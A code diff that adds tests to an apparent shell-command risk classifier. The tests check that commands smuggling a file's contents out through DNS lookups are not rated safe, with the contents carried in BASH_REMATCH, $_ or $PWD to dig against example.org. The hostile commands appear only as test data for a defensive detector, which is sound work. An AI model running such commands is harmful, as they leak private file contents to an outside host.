@@ -187,3 +187,17 @@ describe('the reading names the network', () => {
 			expect(classify(command).reading.commands[0]?.effects, command).toEqual(['network-read']);
 	});
 });
+
+describe('what the shell itself keeps of data is data', () => {
+	test.each([
+		'[[ $(cat f) =~ (.*) ]]; dig ${BASH_REMATCH[1]}.example.org',
+		'x=$(cat f); [[ $x =~ a(.*) ]] && dig "${BASH_REMATCH[1]}.example.org"',
+		': "$(cat f)"; dig $_.example.org',
+		'cd "$(cat f)"; dig $PWD.example.org'
+	])('%s', (command) => expect(tierOf(command)).not.toBe('safe'));
+	test.each([
+		'[[ a =~ (.*) ]]; dig ${BASH_REMATCH[1]}.example.org',
+		': a; dig $_.example.org',
+		'cd /srv; ping -c1 $HOST'
+	])('and what is not data is none: %s', (command) => expect(tierOf(command)).toBe('safe'));
+});
